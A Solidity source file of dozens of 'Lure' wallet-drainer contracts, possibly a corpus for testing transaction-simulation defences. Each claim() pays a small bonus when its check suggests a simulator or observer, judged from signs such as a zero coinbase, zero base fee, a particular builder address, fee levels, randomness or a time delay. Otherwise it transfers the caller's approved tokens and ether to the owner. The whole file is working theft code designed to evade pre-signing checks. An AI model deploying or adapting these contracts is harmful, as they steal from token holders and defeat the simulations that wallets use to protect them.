// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import {Tokens} from "../base/Tokens.sol";

/// @title A claim that gives a bonus where it believes itself watched, and takes everything where not.
/// @dev The victim approved `token` and calls `claim()`. Each contract below looks at one thing.
abstract contract Lure {
    address internal immutable owner;
    address internal immutable token;

    constructor(address owner_, address token_) payable {
        owner = owner_;
        token = token_;
    }

    receive() external payable {}

    function claim() external payable virtual {
        _settle(_innocent());
    }

    function _innocent() internal virtual returns (bool);

    function _settle(bool innocent) internal {
        if (innocent) {
            (bool sent,) = msg.sender.call{value: msg.value + 0.001 ether}("");
            require(sent);
            return;
        }
        uint256 amount = Tokens.takeable(token, msg.sender, address(this));
        if (amount > 0) Tokens.pull(token, msg.sender, owner, amount);
        if (msg.value > 0) {
            (bool kept,) = owner.call{value: msg.value}("");
            require(kept);
        }
    }
}

// Innocent where something looks like a simulator.

contract ZeroCoinbase is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase == address(0); }
}

contract ZeroBaseFee is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.basefee == 0; }
}

contract ZeroGasPrice is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return tx.gasprice == 0; }
}

contract ZeroRandomness is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.prevrandao == 0; }
}

contract RoundGasLimit is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return block.gaslimit == 30_000_000 || block.gaslimit > 1_000_000_000;
    }
}

contract PoorCoinbase is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase.balance == 12_345 ether; }
}

contract RichOrigin is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return tx.origin.balance > 5_000 ether; }
}

contract RichCaller is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return msg.sender.balance > 100_000 ether; }
}

contract NoParentHash is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return blockhash(block.number - 1) == 0; }
}

contract CoinbaseWithCode is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase.code.length > 0; }
}

contract CoinbaseWithoutHash is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase.codehash == 0; }
}

contract NoTip is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return tx.gasprice == block.basefee; }
}

contract MuchGas is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return gasleft() > 5_000_000; }
}

contract HashedCoinbase is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return keccak256(abi.encode(block.coinbase)) == keccak256(abi.encode(address(0)));
    }
}

contract DividedBaseFee is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return (block.basefee + 7) / 1_000 == 0; }
}

contract TransientCoinbase is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal override returns (bool zero) {
        assembly {
            tstore(7, coinbase())
            zero := iszero(tload(7))
        }
    }
}

// Innocent where everything looks real, but for the builder, the fees or the moment that the thief waits for.

contract OneBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return block.coinbase != 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97;
    }
}

contract OwnBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase != owner; }
}

contract StoredBuilder is Lure {
    address private builder;
    constructor(address o, address t) payable Lure(o, t) { builder = address(uint160(uint256(keccak256("builder")))); }
    function _innocent() internal view override returns (bool) { return block.coinbase != builder; }
}

contract HashedBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return keccak256(abi.encode(block.coinbase))
            != keccak256(abi.encode(0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97));
    }
}

contract BuilderSuffix is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return uint160(address(block.coinbase)) & 0xffff != 0x5f97;
    }
}

contract MaskedBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return uint160(address(block.coinbase)) ^ 0x1122334455667788 != uint160(0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97);
    }
}

contract MemoryBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        uint256[4] memory seen;
        seen[2] = uint160(address(block.coinbase));
        seen[3] = seen[2] + 11;
        return seen[3] != uint256(uint160(0x1111222233334444555566667777888899990000)) + 11;
    }
}

contract LastBuilder is Lure {
    uint256 private last;
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal override returns (bool) {
        last = uint160(address(block.coinbase));
        return last != uint160(0x1111222233334444555566667777888899990000);
    }
}

contract Witness {
    function builder() external view returns (address) { return block.coinbase; }
    function crowded() external view returns (bool) { return block.basefee > 80 gwei; }
}

contract AskedBuilder is Lure {
    Witness private immutable witness;
    constructor(address o, address t) payable Lure(o, t) { witness = new Witness(); }
    function _innocent() internal view override returns (bool) {
        return witness.builder() != 0x1111222233334444555566667777888899990000;
    }
}

contract AskedFees is Lure {
    Witness private immutable witness;
    constructor(address o, address t) payable Lure(o, t) { witness = new Witness(); }
    function _innocent() internal view override returns (bool) { return !witness.crowded(); }
}

contract RichBuilder is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.coinbase.balance < 25 ether; }
}

contract CrowdedBlock is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.basefee < 50 gwei; }
}

contract QuietBlock is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.basefee > 0.9 gwei; }
}

contract DearGas is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return tx.gasprice < 120 gwei; }
}

contract OddTip is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return tx.gasprice % 1_000 != 321; }
}

contract LargerBlock is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.gaslimit != 60_000_000; }
}

contract OneInSixteen is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.prevrandao % 16 != 7; }
}

contract HashedRandomness is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return uint256(keccak256(abi.encode(block.prevrandao, "claim"))) % 3 != 0;
    }
}

contract OddHash is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return uint256(blockhash(block.number - 1)) % 2 == 0;
    }
}

contract EveryFifthBlock is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.number % 5 != 3; }
}

contract SomeBlock is Lure {
    uint256 private immutable when;
    constructor(address o, address t) payable Lure(o, t) { when = block.number + 1_000_000; }
    function _innocent() internal view override returns (bool) { return block.number < when; }
}

contract InAnHour is Lure {
    uint256 private immutable when;
    constructor(address o, address t) payable Lure(o, t) { when = block.timestamp + 1 hours; }
    function _innocent() internal view override returns (bool) { return block.timestamp < when; }
}

contract InASeason is Lure {
    uint256 private immutable when;
    constructor(address o, address t) payable Lure(o, t) { when = block.timestamp + 90 days; }
    function _innocent() internal view override returns (bool) { return block.timestamp < when; }
}

contract InAYear is Lure {
    uint256 private when;
    constructor(address o, address t) payable Lure(o, t) { when = block.timestamp + 365 days; }
    function _innocent() internal view override returns (bool) { return block.timestamp < when; }
}

contract LittleGas is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return gasleft() > 400_000; }
}

contract RichVictim is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return msg.sender.balance < 500 ether; }
}

contract BuilderAndFees is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return block.coinbase != 0x1111222233334444555566667777888899990000 || block.basefee < 20 gwei;
    }
}

/// Takes nothing but the value that comes with the call.
contract ValueKeeper is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return block.coinbase != 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97;
    }
    function claim() external payable override {
        address to = _innocent() ? msg.sender : owner;
        (bool sent,) = to.call{value: msg.value}("");
        require(sent);
    }
}

contract BlobFees is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) { return block.blobbasefee < 1_000 gwei; }
}

contract HashedFees is Lure {
    constructor(address o, address t) payable Lure(o, t) {}
    function _innocent() internal view override returns (bool) {
        return keccak256(abi.encode(block.basefee / 1 gwei)) != keccak256(abi.encode(uint256(57)));
    }
}

contract DelayedFlag is Lure {
    bool private armed;
    constructor(address o, address t) payable Lure(o, t) {}
    function arm() external { if (block.coinbase == 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97) armed = true; }
    function _innocent() internal view override returns (bool) { return !armed; }
}
